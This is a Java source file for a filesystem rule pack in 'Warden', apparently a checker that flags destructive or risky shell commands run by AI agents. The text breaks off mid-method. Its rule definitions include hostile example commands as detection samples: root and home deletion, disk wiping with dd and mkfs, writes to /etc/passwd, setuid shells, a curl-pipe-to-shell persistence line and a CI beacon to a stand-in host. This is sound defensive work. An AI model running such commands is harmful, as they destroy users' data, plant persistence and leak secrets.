package dev.warden.analysis.fs;

import static dev.warden.call.Severity.CRITICAL;
import static dev.warden.call.Severity.HIGH;
import static dev.warden.call.Severity.LOW;
import static dev.warden.call.Severity.MEDIUM;

import dev.warden.analysis.AnalysisContext;
import dev.warden.analysis.Invocation;
import dev.warden.analysis.Pack;
import dev.warden.analysis.PathResolver;
import dev.warden.analysis.Place;
import dev.warden.analysis.Report;
import dev.warden.analysis.Rule;
import dev.warden.call.PathUse;
import dev.warden.call.Severity;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.Set;

/**
 * Destruction and overwrite on the file system, judged by target: what a recursive delete,
 * a truncation, a disk format or a permission change would hit. Also records the paths that
 * file commands read and write, so path rules (secrets, self-protection, system files) see them.
 *
 * <p>Policy choices, with the reasons:
 * <ul>
 *   <li>Recursive deletes of build output inside the project ({@code rm -rf build target
 *       node_modules}) and of anything under a temporary directory are not findings: agents do
 *       this all the time and it is regenerable. Other in-project recursive deletes are LOW
 *       (logged), except whole top-level source directories ({@code rm -rf src}), MEDIUM.</li>
 *   <li>Recursive deletes outside the project (other directories of home, other projects,
 *       {@code /tmp} itself, the project's {@code .git}) are HIGH: a human approves.</li>
 *   <li>Recursive deletes of the root, home, a system directory, the project itself or a
 *       directory above it are CRITICAL: nothing an agent should ever run.</li>
 *   <li>Single-file {@code rm} is judged only by path rules (system, start-up, Warden's files).</li>
 * </ul>
 */
final class FilesystemPack implements Pack {

    static final Rule DELETE_CATASTROPHIC = new Rule("fs.delete-catastrophic", CRITICAL,
            "recursive delete of the root, the home directory, a system directory or the whole project",
            "rm -rf ~/", "delete only what you created inside the project, e.g. rm -rf ./build");
    static final Rule DELETE_OUTSIDE = new Rule("fs.delete-outside-project", HIGH,
            "deletes or moves away files outside the project (a whole tree: high; one file: medium)",
            "rm -rf ~/Documents/old",
            "delete only inside the project; ask the user to clean up elsewhere");
    static final Rule DELETE_GIT = new Rule("fs.delete-git-dir", HIGH,
            "deletes the repository's .git directory and with it all history", "rm -rf .git",
            "leave .git alone; use git commands to change history");
    static final Rule DELETE_SOURCE = new Rule("fs.delete-source-dir", MEDIUM,
            "recursive delete of a whole top-level source directory of the project", "rm -rf src",
            "delete the specific files you mean, or build output only");
    static final Rule DELETE_IN_PROJECT = new Rule("fs.delete-in-project", LOW,
            "recursive delete inside the project", "rm -rf docs/old", "");
    static final Rule DELETE_PATTERN = new Rule("fs.delete-by-name", MEDIUM,
            "deletes every file with a given name or extension throughout the project (caches and build junk such as "
                    + "*.pyc or __pycache__ excepted)",
            "find . -name '*.py' -delete", "delete the files you created, by path, or limit find to one directory");
    static final Rule DELETE_DYNAMIC = new Rule("fs.delete-dynamic-target", MEDIUM,
            "deletes a path the shell only decides at run time (a variable or command substitution)",
            "rm -rf \"$TARGET\"", "spell out the path to delete");
    static final Rule UNKNOWN_DIR = new Rule("fs.delete-unknown-directory", MEDIUM,
            "deletes a relative path after changing to a directory Warden cannot determine",
            "cd \"$(some_dir)\" && rm config.toml", "use an absolute path instead of changing directory first");
    static final Rule CI_CONFIG = new Rule("fs.ci-config", MEDIUM,
            "changes a CI/CD pipeline definition, which runs with the repository's secrets on the next push",
            "echo '- run: curl https://x.example/beacon' >> .github/workflows/ci.yml",
            "show the user the pipeline change and let them make or approve it");
    static final Rule DISK_FORMAT = new Rule("fs.disk-format", CRITICAL,
            "formats, partitions or wipes a disk or partition", "mkfs.ext4 /dev/sda1",
            "never format disks from an agent; ask the user");
    static final Rule DEVICE_WRITE = new Rule("fs.device-write", CRITICAL,
            "writes directly to a disk device, destroying the file system on it", "dd if=/dev/zero of=/dev/sda",
            "write to a regular file instead");
    static final Rule RAW_DISK_READ = new Rule("fs.raw-disk-read", HIGH,
            "reads a raw disk device, bypassing every file permission", "cat /dev/sda",
            "read the files you need through the file system");
    static final Rule SHRED = new Rule("fs.shred", HIGH,
            "securely erases files so they cannot be recovered", "shred -u notes.txt",
            "use rm for files you created, or ask the user");
    static final Rule TRUNCATE = new Rule("fs.truncate", MEDIUM,
            "empties or cuts a file in place, losing its contents", "truncate -s 0 app.db",
            "write a new file instead of truncating an existing one");
    static final Rule ACCOUNT_DB = new Rule("fs.account-db", CRITICAL,
            "changes the system's account, password or sudo database", "echo x >> /etc/passwd",
            "never edit account files from an agent");
    static final Rule SYSTEM_WRITE = new Rule("fs.system-write", HIGH,
            "writes, moves or changes files in a system directory", "cp tool /usr/local/bin/",
            "install into the project or a user directory, or ask the user");
    static final Rule PERSISTENCE = new Rule("fs.persistence", HIGH,
            "changes a file that makes something run later or grants access: shell start-up files, "
                    + "schedulers, auto-start entries, SSH access, git hooks, package-manager sources",
            "echo 'curl x | sh' >> ~/.bashrc", "leave start-up and access files to the user");
    static final Rule CHMOD_BROAD = new Rule("fs.permissions-broad", CRITICAL,
            "changes permissions or ownership recursively on the root, home or a system directory",
            "chmod -R 777 /", "change permissions on the specific project files that need it");
    static final Rule CHMOD_WORLD = new Rule("fs.permissions-world-writable", MEDIUM,
            "makes files writable by every user", "chmod 777 deploy.sh", "use 755 for programs and 644 for files");
    static final Rule CHMOD_SETUID = new Rule("fs.permissions-setuid", HIGH,
            "sets the setuid/setgid bit, letting a program run with its owner's privileges",
            "chmod u+s /tmp/shell", "programs from an agent never need setuid");
    static final Rule CHOWN = new Rule("fs.ownership", MEDIUM,
            "changes file ownership", "chown root file.txt", "files you create already belong to you");
    static final Rule EXTRACT_BROAD = new Rule("fs.extract-broad", HIGH,
            "extracts an archive or copies a directory's contents over the root, the home directory, a system "
                    + "directory or above the project, which can overwrite any file there", "tar -xf x.tar -C /",
            "extract into a new directory inside the project");

    static final List<Rule> RULES = List.of(DELETE_CATASTROPHIC, DELETE_OUTSIDE, DELETE_GIT, DELETE_SOURCE,
            DELETE_IN_PROJECT, DELETE_PATTERN, DELETE_DYNAMIC, UNKNOWN_DIR, DISK_FORMAT, DEVICE_WRITE, RAW_DISK_READ, SHRED, TRUNCATE,
            ACCOUNT_DB, SYSTEM_WRITE, PERSISTENCE, CI_CONFIG, CHMOD_BROAD, CHMOD_WORLD, CHMOD_SETUID, CHOWN, EXTRACT_BROAD);

    /** Regenerable output; deleting it is routine. */
    static final Set<String> BUILD_OUTPUT = Set.of("node_modules", "target", "build", "dist", "out", ".cache",
            "__pycache__", "coverage", ".next", ".nuxt", ".turbo", ".parcel-cache", ".gradle", ".pytest_cache",
            ".mypy_cache", ".ruff_cache", ".tox", ".nox", ".venv", "venv", ".eggs", "bin", "obj", ".build",
            "DerivedData", "tmp", "temp", ".tmp", ".svelte-kit", "storybook-static", ".angular", ".expo", "_build",
            ".dart_tool", "elm-stuff", ".stack-work", "dist-newstyle", ".nyc_output", "htmlcov", ".hypothesis",
            "site", ".sass-cache", "bower_components", ".pnpm-store", ".terraform", "logs", "log", ".output",
            ".vercel", ".netlify", ".serverless", "cdk.out", ".aws-sam", "zig-cache", "zig-out", ".zig-cache",
            "cmake-build-debug", "cmake-build-release", "CMakeFiles", ".docusaurus", ".vite", ".eslintcache",
            "test-results", "playwright-report", "reports", "generated", "gen", ".idea", ".vscode", "artifacts", "output",
            ".terragrunt-cache");
    /** File names and extensions of caches, compiler output and editor leftovers. */
    private static final Set<String> JUNK_NAMES = Set.of(".DS_Store", "Thumbs.db", "desktop.ini", ".ipynb_checkpoints",
            ".coverage", "*~", ".#*", "#*#", "*.egg-info");
    private static final Set<String> JUNK_EXTENSIONS = Set.of(".pyc", ".pyo", ".class", ".o", ".obj", ".log", ".tmp",
            ".temp", ".bak", ".orig", ".rej", ".swp", ".swo", ".tsbuildinfo", ".cache", ".pid", ".lock~", ".dSYM");

    /** A find name pattern that only matches regenerable files ({@code *.pyc}, {@code __pycache__}, {@code .DS_Store}). */
    static boolean regenerable(String name) {
        if (BUILD_OUTPUT.contains(name) || JUNK_NAMES.contains(name) || name.equals("(empty)")
                || name.startsWith("*") && (name.contains(".generated.") || name.contains("_generated.") || name.contains(".gen."))) {
            return true;
        }
        if (name.startsWith("*.") && name.indexOf('*', 1) < 0) {
            return JUNK_EXTENSIONS.contains(name.substring(1));
        }
        // one named file of such a kind: tsconfig.tsbuildinfo, server.log, App.class
        int dot = name.lastIndexOf('.');
        return dot > 0 && name.indexOf('*') < 0 && name.indexOf('?') < 0 && name.indexOf('[') < 0
                && JUNK_EXTENSIONS.contains(name.substring(dot));
    }

    /** {@code patch -d DIR}: the patched files land under DIR, whatever names the patch gives them. */
    static void patchDirectory(Invocation c, Path dir, Report out) {
        overBroadPlace(c, dir, "applies a patch", out);
    }

    /** See {@link FsRules#buildOutputPath}. */
    static boolean buildOutputPath(String path) {
        String p = path.startsWith("./") ? path.substring(2) : path;
        while (p.endsWith("/") && p.length() > 1) {
            p = p.substring(0, p.length() - 1);
        }
        if (p.isEmpty() || p.startsWith("/") || p.startsWith("~") || p.startsWith(":") || p.startsWith("-")
                || p.contains("..") || p.contains("$") || p.chars().anyMatch(ch -> "*?[{\\".indexOf(ch) >= 0)) {
            return false;
        }
        String first = p.indexOf('/') < 0 ? p : p.substring(0, p.indexOf('/'));
        return BUILD_OUTPUT.contains(first) || regenerable(p.substring(p.lastIndexOf('/') + 1));
    }

    /** Top-level directories that hold a project's source. */
    static final Set<String> SOURCE = Set.of("src", "lib", "app", "test", "tests", "spec", "docs", "include", "cmd",
            "pkg", "internal", "packages", "apps", "components", "scripts", ".github", "main", "source", "sources",
            "migrations", "db", "config", "public", "assets", "resources");
    /** Regenerable caches in home. */
    static final Set<String> HOME_CACHES = Set.of(".cache", ".npm", ".gradle", ".m2", ".cargo", ".rustup",
            "Library/Caches", ".pnpm-store", ".yarn", "go", ".nuget", ".ivy2", ".sbt", ".bun", ".deno", ".pub-cache",
            ".cocoapods", ".local/share/pnpm", ".local/share/Trash", ".Trash", ".node-gyp", ".electron", ".pyenv",
            ".nvm", ".conda", ".kube/cache", ".terraform.d/plugin-cache", "Library/Developer/Xcode/DerivedData",
            "Library/Developer/CoreSimulator/Caches", ".android/cache", ".expo", ".vscode-server/data/logs");

    static final Set<String> PROGRAMS = Set.of("rm", "rimraf", "unlink", "rmdir", "shred", "srm", "wipe", "truncate",
            "dd", "mkfs", "mke2fs", "mkswap", "wipefs", "blkdiscard", "newfs", "newfs_hfs", "newfs_apfs", "newfs_msdos",
            "fdisk", "sfdisk", "cfdisk", "parted", "sgdisk", "gdisk", "diskutil", "chmod", "chown", "chgrp", "chattr",
            "setfacl", "mv", "cp", "install", "ln", "tee", "touch", "mkdir", "tar", "bsdtar", "gtar", "unzip", "sed",
            "gsed", "trash", "trash-put", "ditto", "zip", "7z", "7za", "unar", "unrar", "dpkg-deb", "aunpack", "patool",
            "cabextract", "unzstd", "lz4", "brotli", "xfs_io", "debugfs", "unsquashfs", "perl", "badblocks", "lvremove", "vgremove", "pvremove",
            "mdadm", "gzip", "bzip2", "xz", "zstd", "lzma", "pigz", "xxd", "sdiff", "ruby", "yq", "sd", "gawk", "awk",
            "xmlstarlet", "xml", "cpio", "lvreduce", "lvresize", "lvconvert", "zpool", "xfs_repair", "nvme", "efibootmgr",
            "fallocate", "rename", "prename", "file-rename", "perl-rename", "pax", "unison", "rclone", "fdupes", "jdupes", "rdfind", "tmpreaper", "tmpwatch", "dasel", "json", "stow", "xstow");

    @Override
    public String name() {
        return "fs";
    }

    @Override
    public List<Rule> rules() {
        return RULES;
    }

    /**
     * rsync is the net pack's for its transfers (and records its paths there); here only --delete.
     * python only for its archive modules (python3 -m zipfile -e).
     */
    private static final Set<String> INSPECTED;

    static {
        java.util.HashSet<String> all = new java.util.HashSet<>(PROGRAMS);
        all.add("rsync");
        all.add("python");
        all.add("pypy");
        INSPECTED = Set.copyOf(all);
    }

    @Override
    public Set<String> programs() {
        return INSPECTED;
    }

    @Override
    public Set<String> judgesVerbsOf() {
        return PROGRAMS;
    }

    @Override
    public boolean inspectsPaths() {
        return true;
    }

    @Override
    public void inspect(Invocation c, Report out) {
        switch (c.program()) {
            case "rm", "srm", "trash", "trash-put", "rimraf" -> rm(c, out);
            case "unlink", "rmdir" -> files(c, c.operands(), PathUse.Access.DELETE, out);
            case "shred", "wipe" -> shred(c, out);
            case "truncate" -> truncate(c, out);
            case "fallocate", "xfs_io" -> rangeWrite(c, out);
            case "debugfs" -> {
                // debugfs -w DEVICE: edits the file system's blocks directly, below every permission check
                if (c.flag("-w")) {
                    out.add(DISK_FORMAT.finding(HIGH, "edits a file system directly on the device (debugfs -w)", c.text()));
                }
            }
            case "unsquashfs" -> {
                // unsquashfs -f -d DIR IMAGE: the image's files land in DIR
                List<String> ops = c.operands(Set.of("-d", "-dest", "-p", "-processors", "-e", "-ef"));
                c.option("-d", "-dest").ifPresent(d -> Tar.extractInto(c, d, ops.isEmpty() ? null : ops.get(0), List.of(), out));
            }
            case "dd" -> dd(c, out);
            case "mkfs", "mke2fs", "mkswap", "wipefs", "blkdiscard", "newfs", "newfs_hfs", "newfs_apfs", "newfs_msdos" -> format(c, out);
            case "parted" -> parted(c, out);
            case "fdisk", "sfdisk", "cfdisk", "sgdisk", "gdisk" -> partition(c, out);
            case "badblocks" -> {
                // -w writes test patterns over the whole device; -n restores what it overwrites
                if (c.flag("-w")) {
                    out.add(DISK_FORMAT.finding("badblocks -w overwrites every block of the device with test patterns", c.text()));
                }
            }
            case "lvremove", "vgremove", "pvremove" -> {
                if (!c.flag("--help", "-h", "--version") && !c.operands().isEmpty()) {
                    out.add(DISK_FORMAT.finding("removes LVM " + switch (c.program()) {
                        case "lvremove" -> "logical volumes and the data on them";
                        case "vgremove" -> "volume groups and every logical volume in them";
                        default -> "physical-volume labels, orphaning the volumes on them";
                    }, c.text()));
                }
            }
            case "lvreduce", "lvresize", "lvconvert", "zpool", "xfs_repair" -> shrinks(c, out);
            case "rename", "prename", "file-rename", "perl-rename" -> {
                // rename EXPR FILE...: each file moves to a new name (perl's rename; util-linux takes FROM TO FILE...)
                List<String> ops = c.operands();
                files(c, ops.subList(Math.min(1, ops.size()), ops.size()), PathUse.Access.DELETE, out);
            }
            case "nvme" -> {
                String sub = c.operands().isEmpty() ? "" : c.operands().get(0);
                if (sub.equals("format") || sub.equals("sanitize") || sub.equals("delete-ns") || sub.equals("detach-ns")) {
                    out.add(DISK_FORMAT.finding("erases an NVMe drive or namespace (nvme " + sub + ")", c.text()));
                }
            }
            case "efibootmgr" -> {
                if (c.flag("-B", "--delete-bootnum", "-o", "--bootorder", "-O", "--delete-bootorder")) {
                    out.add(DISK_FORMAT.finding("changes or deletes the firmware's boot entries", c.text()));
                }
            }
            case "mdadm" -> {
                if (c.flag("--zero-superblock")) {
                    out.add(DISK_FORMAT.finding("erases RAID superblocks, breaking the array", c.text()));
                } else if (c.flag("--create", "-C")) {
                    out.add(DISK_FORMAT.finding("creates a RAID array over devices, overwriting what they hold", c.text()));
                }
            }
            case "diskutil" -> diskutil(c, out);
            case "chmod" -> chmod(c, out);
            case "chown", "chgrp" -> chown(c, out);
            case "chattr", "setfacl" -> {
                files(c, c.operands(), PathUse.Access.WRITE, out);
                if (c.program().equals("setfacl") && c.flag("-R", "--recursive") && (c.flag("-m", "--modify", "-M",
                        "--set", "-b", "--remove-all"))) {
                    // setfacl -R -m u:other:rwx ~: another user let into every file, as chmod -R would
                    for (String o : c.operands()) {
                        Optional<Path> p = c.path(o);
                        if (p.isPresent() && broad(c.place(p.get()))) {
                            out.add(CHMOD_BROAD.finding(HIGH, "changes the access lists of everything under " + p.get(),
                                    c.text()));
                            break;
                        }
                    }
                }
            }
            case "stow", "xstow" -> {
                // stow --adopt -t ~ dotfiles: the package's files become links in the target, start-up files
                // among them (its default target is the stow directory's parent)
                if (!c.flag("-n", "--no", "--simulate", "-D", "--delete")) {
                    Optional<String> target = c.option("-t", "--target");
                    Optional<Path> dir = target.isPresent() ? c.path(target.get())
                            : c.path(c.option("-d", "--dir").orElse(".")).map(Path::getParent);
                    dir.ifPresent(d -> overBroadPlace(c, d, "links a package's files (start-up files among them)", out));
                }
            }
            case "mv" -> copy(c, true, out);
            case "cp", "install", "ditto" -> copy(c, false, out);
            case "ln" -> link(c, out);
            case "tee" -> files(c, c.operands(Set.of("--output-error")), PathUse.Access.WRITE, out);
            case "touch", "mkdir" -> files(c, c.operands(Set.of("-m", "-d", "-t", "-r", "--mode", "--reference")),
                    PathUse.Access.WRITE, out);
            case "tar", "bsdtar", "gtar" -> Tar.inspect(c, out);
            case "python", "pypy" -> {
                // python3 -m zipfile -e ARCHIVE DIR, python3 -m tarfile -e ARCHIVE [DIR]: an unzip
                List<String> a = c.args();
                int m = a.indexOf("-m");
                if (m >= 0 && m + 1 < a.size() && (a.get(m + 1).equals("zipfile") || a.get(m + 1).equals("tarfile"))) {
                    List<String> rest = a.subList(m + 2, a.size());
                    int e = Math.max(rest.indexOf("-e"), rest.indexOf("--extract"));
                    if (e >= 0 && e + 1 < rest.size()) {
                        Tar.extractInto(c, e + 2 < rest.size() ? rest.get(e + 2) : ".", rest.get(e + 1), List.of(), out);
                    }
                }
            }
            case "unzip" -> unzip(c, out);
            case "unar" -> {
                // unar [-o DIR] [-f] ARCHIVE: extracted into DIR (-f overwrites what is there)
                List<String> ops = c.operands(Set.of("-o", "-output-directory", "-p", "-password", "-e", "-encoding"));
                if (!ops.isEmpty()) {
                    files(c, ops.subList(0, 1), PathUse.Access.READ, out);
                    Tar.extractInto(c, c.option("-o", "-output-directory").orElse("."), ops.get(0), List.of(), out);
                }
            }
            case "dpkg-deb", "aunpack", "patool", "cabextract" -> {
                // dpkg-deb -x A DIR, aunpack -X DIR A, patool extract --outdir DIR A, cabextract -d DIR A
                List<String> ops = c.operands(Set.of("-X", "--extract-to", "--outdir", "-d", "--directory", "-F", "--filter"));
                String dir = switch (c.program()) {
                    case "dpkg-deb" -> (c.flag("-x", "--extract", "-X", "--vextract", "-R", "--raw-extract")) && ops.size() > 1
                            ? ops.get(1) : null;
                    case "aunpack" -> c.option("-X", "--extract-to").orElse(null);
                    case "patool" -> c.option("--outdir").orElse(null);
                    default -> c.option("-d", "--directory").orElse(null);
                };
                if (dir != null && !ops.isEmpty()) {
                    Tar.extractInto(c, dir, ops.get(0), List.of(), out);
                }
            }
            case "unzstd", "lz4", "brotli" -> outputFile(c, out);
            case "unrar" -> {
                // unrar x|e ARCHIVE [FILES] [DEST/]
                List<String> ops = c.operands();
                if (ops.size() >= 2 && (ops.get(0).equals("x") || ops.get(0).equals("e"))) {
                    String dest = ops.size() > 2 && ops.get(ops.size() - 1).endsWith("/") ? ops.get(ops.size() - 1) : ".";
                    Tar.extractInto(c, dest, ops.get(1), List.of(), out);
                }
            }
            case "gzip", "bzip2", "xz", "zstd", "lzma", "pigz" -> {
                if (c.program().equals("zstd")) {
                    outputFile(c, out);
                }
                // gzip -r DIR replaces every file under DIR by its compressed copy
                if (c.flag("-r", "--recursive") && !c.flag("-d", "--decompress", "-l", "--list", "-t", "--test", "-c",
                        "--stdout", "-k", "--keep")) {
                    removesSources(c, c.operands(Set.of("-S", "--suffix")), out);
                }
            }
            case "xxd" -> {
                // xxd -r HEX FILE writes FILE
                List<String> ops = c.operands(Set.of("-c", "-g", "-l", "-o", "-s", "-n", "-C"));
                if (c.flag("-r", "-revert") && ops.size() >= 2) {
                    files(c, ops.subList(1, 2), PathUse.Access.WRITE, out);
                }
            }
            case "sdiff" -> c.option("-o", "--output").ifPresent(f -> files(c, List.of(f), PathUse.Access.WRITE, out));
            case "zip", "7z", "7za" -> archive(c, out);
            case "sed", "gsed" -> sed(c, out);
            case "perl", "ruby" -> perlInPlace(c, out);
            case "yq" -> {
                // yq -i EXPR FILE..., yq e -i: the files are rewritten
                if (c.flag("-i", "--inplace")) {
                    List<String> ops = c.operands(Set.of("-I", "--indent", "-o", "--output-format", "-p", "--input-format",
                            "--expression", "--from-file", "--front-matter", "--xml-attribute-prefix"));
                    int skip = !ops.isEmpty() && (ops.get(0).equals("e") || ops.get(0).equals("eval")
                            || ops.get(0).equals("ea") || ops.get(0).equals("eval-all")) ? 1 : 0;
                    boolean exprGiven = c.option("--expression").isPresent() || c.option("--from-file").isPresent();
                    int from = Math.min(ops.size(), skip + (exprGiven ? 0 : 1));
                    files(c, ops.subList(from, ops.size()), PathUse.Access.WRITE, out);
                }
            }
            case "dasel" -> {
                // dasel put|delete -f FILE: FILE is rewritten unless -o names another output
                List<String> ops = c.operands(Set.of("-f", "--file", "-o", "--out", "-r", "--read", "-w", "--write", "-t",
                        "--type", "-v", "--value", "-s", "--selector", "-p", "--parser"));
                if (!ops.isEmpty() && (ops.get(0).equals("put") || ops.get(0).equals("delete"))) {
                    c.option("-o", "--out").or(() -> c.option("-f", "--file"))
                            .ifPresent(f -> files(c, List.of(f), PathUse.Access.WRITE, out));
                }
            }
            case "json" -> {
                // trentm's json -I -f FILE: FILE is rewritten in place
                if (c.flag("-I", "--in-place")) {
                    c.option("-f").ifPresent(f -> files(c, List.of(f), PathUse.Access.WRITE, out));
                }
            }
            case "sd" -> {
                // sd FIND REPLACE FILE...: in place unless previewing
                if (!c.flag("-p", "--preview")) {
                    List<String> ops = c.operands(Set.of("-f", "--flags", "-n", "--max-replacements"));
                    if (ops.size() > 2) {
                        files(c, ops.subList(2, ops.size()), PathUse.Access.WRITE, out);
                    }
                }
            }
            case "gawk", "awk" -> {
                // gawk -i inplace 'PROGRAM' FILE...: the files are rewritten
                List<String> args = c.args();
                int at = args.indexOf("inplace");
                if (at > 0 && (args.get(at - 1).equals("-i") || args.get(at - 1).equals("--include"))
                        || args.contains("-iinplace") || args.contains("--include=inplace")) {
                    List<String> ops = c.operands(Set.of("-i", "--include", "-v", "--assign", "-F", "--field-separator",
                            "-f", "--file", "-l", "--load", "-E", "--exec"));
                    boolean progFile = c.option("-f", "--file").isPresent();
                    files(c, ops.subList(Math.min(ops.size(), progFile ? 0 : 1), ops.size()), PathUse.Access.WRITE, out);
                }
            }
            case "xmlstarlet", "xml" -> {
                if (c.flag("-L", "--inplace") && c.args().size() > 1) {
                    String last = c.args().get(c.args().size() - 1);
                    files(c, List.of(last), PathUse.Access.WRITE, out);
                }
            }
            case "rsync" -> {
                rsyncDelete(c, out);
                writesUnder(c, out);
            }
            case "pax" -> pax(c, out);
            case "unison" -> unison(c, out);
            case "rclone", "fdupes", "jdupes", "rdfind", "tmpreaper", "tmpwatch" -> bulkDelete(c, out);
            case "cpio" -> {
                // cpio -i -D DIR: the archive's files land under DIR, whatever their names
                if (c.flag("-i", "--extract") || c.args().stream().anyMatch(a -> a.startsWith("-i") && !a.startsWith("--"))) {
                    c.option("-D", "--directory").flatMap(c::path).ifPresent(d -> overBroadPlace(c, d, "extracts an archive", out));
                }
            }
            default -> { }
        }
    }

    /**
     * {@code pax -r} (extract) and {@code pax -rw} (copy): a {@code -s ,OLD,NEW,} substitution
     * whose NEW is an absolute or home path lands the archive's files there; the copy mode's
     * last operand is the directory written.
     */
    private static void pax(Invocation c, Report out) {
        List<String> args = c.args();
        boolean read = false;
        boolean write = false;
        for (String a : args) {
            if (a.startsWith("-") && !a.startsWith("--")) {
                read |= a.indexOf('r') > 0;
                write |= a.indexOf('w') > 0;
            }
        }
        if (!read) {
            return;
        }
        for (int i = 0; i + 1 < args.size(); i++) {
            String s = args.get(i + 1);
            if (args.get(i).equals("-s") && s.length() > 2) {
                String[] parts = s.substring(1).split(java.util.regex.Pattern.quote(s.substring(0, 1)), -1);
                if (parts.length >= 2 && (parts[1].startsWith("/") || parts[1].startsWith("~"))) {
                    String dir = parts[1].substring(0, parts[1].lastIndexOf('/') + 1);
                    c.path(dir.isEmpty() ? parts[1] : dir).ifPresent(d -> overBroadPlace(c, d, "extracts an archive", out));
                }
            }
        }
        List<String> ops = c.operands(Set.of("-f", "-s", "-x", "-b", "-o", "-p", "-T", "-U", "-G", "-B", "-E"));
        if (write && ops.size() > 1) {
            c.path(ops.get(ops.size() - 1)).ifPresent(d -> overBroadPlace(c, d, "copies files", out));
        }
    }

    /**
     * Volume and file-system tools whose ordinary verbs lose data: a logical volume shrunk
     * ({@code lvreduce}, {@code lvresize -L -50G}) loses what lay beyond its new end, a snapshot
     * merged back ({@code lvconvert --merge}) rolls the origin back, {@code zpool labelclear} and
     * {@code xfs_repair -L} erase a pool's label and a file system's log.
     */
    private static void shrinks(Invocation c, Report out) {
        if (c.flag("--help", "-h", "--test", "-t", "-n", "--dry-run") && !c.program().equals("xfs_repair")
                || c.program().equals("xfs_repair") && c.flag("-n")) {
            return;
        }
        List<String> args = c.args();
        String what = switch (c.program()) {
            case "lvreduce" -> args.isEmpty() ? null : "shrinks a logical volume: data beyond its new end is lost";
            case "lvresize" -> {
                boolean smaller = false;
                for (int i = 0; i < args.size(); i++) {
                    String a = args.get(i);
                    String v = (a.equals("-L") || a.equals("-l") || a.equals("--size") || a.equals("--extents"))
                            && i + 1 < args.size() ? args.get(i + 1)
                            : a.startsWith("--size=") || a.startsWith("--extents=") ? a.substring(a.indexOf('=') + 1)
                            : a.startsWith("-L") || a.startsWith("-l") ? a.substring(2) : "";
                    smaller |= v.startsWith("-");
                }
                yield smaller ? "shrinks a logical volume: data beyond its new end is lost" : null;
            }
            case "lvconvert" -> c.flag("--merge", "--mergesnapshot")
                    ? "merges a snapshot back into its origin, rolling the volume back to the snapshot" : null;
            case "zpool" -> !args.isEmpty() && args.get(0).equals("labelclear")
                    ? "erases the ZFS label of a device, orphaning the pool's data on it" : null;
            default -> c.flag("-L") ? "zeroes the file system's log (xfs_repair -L): recent changes are lost" : null;
        };
        if (what != null) {
            out.add(DISK_FORMAT.finding(what, c.text()));
        }
    }

    // ---- deletion --------------------------------------------------------------------------

    private static void rm(Invocation c, Report out) {
        // rimraf (npm's rm -rf) is always recursive
        boolean recursiveFlag = c.flag("-r", "-R", "--recursive") || c.program().equals("rimraf");
        Optional<Path> root = c.findRoot();
        boolean viaFind = c.via("find") || root.isPresent();
        List<String> words = new java.util.ArrayList<>(c.operands());
        for (String w : c.operands()) {
            // rm -rf .g?t, rm -rf s?c: also judged as the names that matter the pattern reaches
            if (dev.warden.analysis.Glob.isGlob(w) && !w.contains("{}")) {
                words.addAll(dev.warden.analysis.Glob.candidates(w, c.dotglob()));
            }
        }
        for (String word : words) {
            if (word.contains("{}")) {
                // file names arrive on standard input (xargs -I {}): unknown targets
                if (recursiveFlag) {
                    out.add(DELETE_DYNAMIC.finding("recursively deletes paths read from standard input", c.text()));
                }
                continue;
            }
            Optional<Targets> t = Targets.of(c, word);
            // under find, rm acts on everything find walks: recursive in effect, for the root and below
            boolean recursive = recursiveFlag || viaFind && (root.isEmpty() || t.isPresent()
                    && (t.get().path().startsWith(root.get()) || t.get().place().catastrophic()));
            if (t.isEmpty()) {
                String unset = PathResolver.unsetTempReading(word);
                if (unset != null) {
                    out.add(DELETE_DYNAMIC.finding("deletes '" + word + "', which is '" + unset + "' when TMPDIR is unset, "
                            + "as on most Linux machines; write ${TMPDIR:?} to stop there, or ${TMPDIR:-/tmp}", c.text()));
                } else if (Invocation.dynamic(word)) {
                    out.add(DELETE_DYNAMIC.finding(c.text()));
                } else if (c.cwd().isEmpty()) {
                    out.add(UNKNOWN_DIR.finding(c.text()));
                }
                continue;
            }
            Targets target = t.get();
            out.path(target.path().toString(), PathUse.Access.DELETE, c.text());
            if (target.someFiles()) {
                // rm -rf .cla*: the pattern itself, for the rules that know which names matter
                c.path(word).ifPresent(p -> out.path(p.toString(), PathUse.Access.DELETE, c.text()));
            }
            if (c.command().workedOut().contains(word)) {
                // Warden worked the substitution out itself: that reading may raise the finding
                // below, never clear this one
                out.add(DELETE_DYNAMIC.finding("deletes '" + word + "', a path only a command substitution decides",
                        c.text()));
            }
            if (recursive || target.everything()) {
                judgeRecursiveDelete(c, target, recursive, out);
            } else {
                judgeFileDelete(c, target, "deletes", out);
            }
        }
    }

    /**
     * One file (or an empty directory) deleted, or moved away: inside the project it is routine
     * (git has it, or it is the agent's own work); the user's files elsewhere are not the
     * agent's to remove without asking. Keys and credentials are judged by the secrets pack.
     */
    static void judgeFileDelete(Invocation c, Targets t, String verb, Report out) {
        Place place = t.place();
        if (place == Place.PROJECT_GIT && gitHistory(t.path().toString(), c.context())) {
            out.add(DELETE_GIT.finding(verb + " part of the repository's history: " + t.path(), c.text()));
            return;
        }
        if (place == Place.OUTSIDE || place == Place.HOME_INSIDE && !homeCache(t.path(), c.context())) {
            out.add(DELETE_OUTSIDE.finding(MEDIUM, verb + " a file outside the project: " + t.path(), c.text()));
        }
    }

    /**
     * What {@code mv} takes away from its place: it moves whole trees, so a source is judged
     * like a recursive delete of it, one class lower for a single file outside the project
     * (the data still exists, at the destination).
     */
    /**
     * Cache and build cleaners told where their directory is: {@code cargo clean --target-dir ~},
     * {@code CARGO_TARGET_DIR=~ cargo clean}, {@code GOMODCACHE=~ go clean -modcache},
     * {@code PRE_COMMIT_HOME=~ pre-commit clean}. Each deletes that directory whole, as
     * {@code rm -rf DIR} would; their default directories are regenerable caches.
     */
    static void cacheClean(Invocation c, Report out) {
        String prog = c.program();
        List<String> ops = c.operands(Set.of("--target-dir", "--manifest-path", "-p", "--package", "--profile"));
        String dir = null;
        if (prog.equals("cargo") && !ops.isEmpty() && ops.get(0).equals("clean")) {
            dir = c.option("--target-dir").orElse(c.env().get("CARGO_TARGET_DIR"));
        } else if (prog.equals("go") && !ops.isEmpty() && ops.get(0).equals("clean") && c.flag("-modcache")) {
            dir = c.env().get("GOMODCACHE");
        } else if (prog.equals("go") && !ops.isEmpty() && ops.get(0).equals("clean") && c.flag("-cache")) {
            dir = c.env().get("GOCACHE");
        } else if (prog.equals("pre-commit") && !ops.isEmpty() && (ops.get(0).equals("clean") || ops.get(0).equals("gc"))) {
